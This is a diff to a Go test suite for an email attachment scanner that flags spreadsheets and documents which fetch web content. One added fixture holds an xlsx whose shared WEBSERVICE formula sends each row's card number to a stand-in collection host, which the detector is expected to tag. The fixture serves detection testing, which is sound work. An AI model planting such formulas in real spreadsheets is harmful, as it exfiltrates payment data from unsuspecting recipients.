@@ -220,6 +220,11 @@ func officeLinkCases() []officeCase {
 				Names:   []formats.XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
 				Strings: []string{"Card number:"}}),
 			wants: []relWant{{"heuristic", "formula-web-fetch", "/web-formulas"}}},
+		{name: "xlsx-webservice-shared-copy", about: "xlsx whose WEBSERVICE is filled down a column as Excel saves it (a shared formula: the first row holds it, the others only point at it), each copy sending its own row's card number; the first row's is filled in, the second row's is the one the reader types",
+			action: policy.Tag, subject: "Order form", body: "Please fill in your card number in row 2.\n", ctype: ctXlsx, file: "order.xlsx",
+			data: xlsxSheet(`<row r="1"><c r="A1" t="str"><f t="shared" ref="A1:A3" si="0">_xlfn.WEBSERVICE("https://collect.example.net/c?n="&amp;B1)</f><v>ok</v></c><c r="B1" t="inlineStr"><is><t>4000-0000-0000-0002</t></is></c></row>`+
+				`<row r="2"><c r="A2" t="str"><f t="shared" si="0"/><v>ok</v></c></row><row r="3"><c r="A3" t="str"><f t="shared" si="0"/><v>ok</v></c><c r="B3" t="inlineStr"><is><t>sample</t></is></c></row>`, nil, ""),
+			wants: []relWant{{"heuristic", "formula-web-fetch", "/xl/worksheets/sheet1.xml"}}},
 		{name: "odt-linked-section-web", about: "OpenDocument text whose section is linked to a document on the web (text:section-source), which becomes the section's text, as Word's INCLUDETEXT",
 			action: policy.Quarantine, subject: "Terms", body: "Our terms.\n", ctype: ctOdt, file: "terms.odt",
 			data: odf(ctOdt, `<office:text><text:p>Terms</text:p><text:section text:name="Terms"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="https://files.example.net/terms.odt" text:filter-name="writer8"/>`+
@@ -287,6 +292,11 @@ func officeLinkClean() []Sample {
 			attach(ctOds, "news.ods", odf(ctOds, `<office:spreadsheet><table:table table:name="News"><table:table-row>`+
 				`<table:table-cell table:formula="of:=COM.MICROSOFT.FILTERXML(COM.MICROSOFT.WEBSERVICE([.B1]);&quot;//title&quot;)" office:value-type="string" office:string-value="ok"><text:p>ok</text:p></table:table-cell>`+
 				`<table:table-cell office:value-type="string"><text:p>https://news.example.org/feed.xml</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`)))})
+	add(ok("xlsx-quotes-filled-down", "a supplier's price list whose stock quote WEBSERVICE is filled down a column (a shared formula), each row's symbol filled in"),
+		mail{from: "Accounts <accounts@supplies.example.com>", subject: "Quotes", root: multipart("mixed", text("The quotes refresh as you open the list.\n"),
+			attach(ctXlsx, "quotes.xlsx", xlsxSheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>MSFT</t></is></c><c r="B1" t="str"><f t="shared" ref="B1:B3" si="0">_xlfn.WEBSERVICE("https://quotes.example.org/q?s="&amp;A1)</f><v>1</v></c></row>`+
+				`<row r="2"><c r="A2" t="inlineStr"><is><t>AAPL</t></is></c><c r="B2" t="str"><f t="shared" si="0"/><v>2</v></c></row>`+
+				`<row r="3"><c r="A3" t="inlineStr"><is><t>GOOG</t></is></c><c r="B3" t="str"><f t="shared" si="0"/><v>3</v></c></row>`, nil, "")))})
 	add(ok("ods-linked-sheet-intranet", "an OpenDocument spreadsheet referring to a workbook on the intranet file server (file://fileserver/...)"),
 		mail{from: colleague, subject: "Summary", root: multipart("mixed", text("The summary.\n"),
 			attach(ctOds, "summary.ods", odsLinked("file://fileserver/finance/budget.xlsx")))})
